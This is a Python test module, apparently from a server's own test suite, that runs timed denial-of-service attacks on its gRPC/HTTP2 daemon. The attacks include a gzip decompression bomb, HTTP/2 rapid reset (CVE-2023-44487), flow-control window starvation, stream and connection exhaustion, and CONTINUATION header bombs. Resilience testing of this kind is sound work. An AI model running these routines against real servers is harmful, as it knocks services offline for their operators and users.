"""Attacks by one client or many: each takes a target and about so many seconds."""

import gzip
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress

from etcdpb import rpc_pb2

from server.rpc.http2 import frames
from server.rpc.http2.frames import frame
from tests.attacks.peer import WHOLE_WINDOW, Peer, data, message
from tests.attacks.target import Target

KEY, VALUE_BYTES = b"attacks/large", 1 << 20
RANGE, PUT, WATCH = "/etcdserverpb.KV/Range", "/etcdserverpb.KV/Put", "/etcdserverpb.Watch/Watch"
TSO = "/pdpb.PD/Tso"
SECONDS = 2.0

CANCEL = 8


def put_large_value(target: Target) -> None:
    """What calls of `RANGE` answer with a megabyte."""
    body = rpc_pb2.PutRequest(key=KEY, value=bytes(VALUE_BYTES)).SerializeToString()
    with target.channel() as channel:
        channel.unary_unary(PUT)(body, timeout=60)


def range_body() -> bytes:
    return rpc_pb2.RangeRequest(key=KEY).SerializeToString()


def unread_answers(target: Target, *, connections: int = 1, calls: int = 500) -> None:
    """Small calls with large answers, all windows open, and nothing is read."""
    with ExitStack() as stack:
        for _ in range(connections):
            peer = stack.enter_context(Peer(target, receive_bytes=4096)).introduce(WHOLE_WINDOW)
            send_what_fits(peer, b"".join(peer.request(RANGE, range_body()) for _ in range(calls)))
        time.sleep(SECONDS)


def gzip_bomb(target: Target) -> None:
    """Compressed messages of a thousand times their size, in many calls."""
    bomb = gzip.compress(bytes(200 << 20), 9)
    with Peer(target) as peer:
        peer.introduce()
        repeat(
            peer,
            lambda: (
                peer.headers(target.method, ("grpc-encoding", "gzip"))
                + data(peer.stream, message(bomb, compressed=True), end_stream=True)
            ),
        )


def tiny_windows(target: Target) -> None:
    """Large answers, taken a byte at a time by many streams."""
    with Peer(target) as peer:
        peer.introduce(frames.settings({4: 1}))
        peer.send(b"".join(peer.request(RANGE, range_body()) for _ in range(100)))
        streams = range(1, peer.stream + 1, 2)
        repeat(peer, lambda: b"".join(frames.window_update(stream, 1) for stream in streams) * 10)


def rapid_reset(target: Target) -> None:
    """Calls that are reset at once (CVE-2023-44487)."""
    with Peer(target) as peer:
        peer.introduce()
        reset = lambda: frame(frames.RST_STREAM, 0, peer.stream, CANCEL.to_bytes(4))  # noqa: E731
        repeat(
            peer, lambda: b"".join(peer.request(RANGE, range_body()) + reset() for _ in range(50))
        )


def many_streams(target: Target) -> None:
    """One client with more streams open than the daemon takes calls at once."""
    with Peer(target) as peer:
        peer.introduce()
        peer.send(b"".join(peer.headers(TSO) for _ in range(16_400)))
        time.sleep(SECONDS)


def refused_calls(target: Target) -> None:
    """Calls of a method that nobody serves, as fast as they are taken, by several clients."""
    with several(target, 8) as peers:
        until_s = time.monotonic() + SECONDS
        while time.monotonic() < until_s:
            for peer in peers:
                send_what_fits(
                    peer, b"".join(peer.request("/no.Service/Method") for _ in range(100))
                )


def header_bombs(target: Target) -> None:
    """Blocks of Huffman codes, indexed again and again, in CONTINUATION frames,
    by several clients.
    """
    with several(target, 8) as peers:
        until_s = time.monotonic() + SECONDS
        while time.monotonic() < until_s:
            for peer in peers:
                block = peer.headers("/" + "e" * 15_000)
                send_what_fits(peer, block + frame(frames.DATA, frames.END_STREAM, peer.stream))


def garbage_frames(target: Target) -> None:
    """Unknown frames, PING, SETTINGS and PRIORITY without end;
    again on a new connection when the old one is ended.
    """
    until_s = time.monotonic() + SECONDS
    junk = (
        frame(0xEE, 0, 0, b"x") * 50
        + frame(frames.PING, 0, 0, bytes(8)) * 50
        + frames.settings({4: 1}) * 50
    )
    while time.monotonic() < until_s:
        with Peer(target) as peer, suppress(OSError):
            peer.introduce()
            for _ in range(50):
                peer.send(junk)


@contextmanager
def idle_connections(target: Target, count: int) -> Iterator[list[Peer]]:
    """As many as the daemon takes, and more; what is refused is refused."""
    with ExitStack() as stack:
        peers = []
        for _ in range(count):
            peer = stack.enter_context(Peer(target))
            with suppress(OSError):
                peer.introduce()
            peers.append(peer)
        yield peers


@contextmanager
def several(target: Target, count: int) -> Iterator[list[Peer]]:
    with ExitStack() as stack:
        yield [stack.enter_context(Peer(target)).introduce() for _ in range(count)]


def repeat(peer: Peer, make: Callable[[], bytes]) -> None:
    """Send what `make` makes, and read what comes,
    until the time is over or the server ends the connection.
    """
    until_s = time.monotonic() + SECONDS
    peer.socket.setblocking(False)
    pending = b""
    while time.monotonic() < until_s:
        pending = pending or make()
        try:
            pending = pending[peer.socket.send(pending) :]
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            break
        with suppress(OSError):
            peer.socket.recv(1 << 20)
    time.sleep(max(0.0, until_s - time.monotonic()))


def send_what_fits(peer: Peer, raw: bytes) -> None:
    """Without waiting for a server that does not read."""
    peer.socket.setblocking(False)
    with suppress(OSError, socket.timeout):
        while raw:
            raw = raw[peer.socket.send(raw) :]
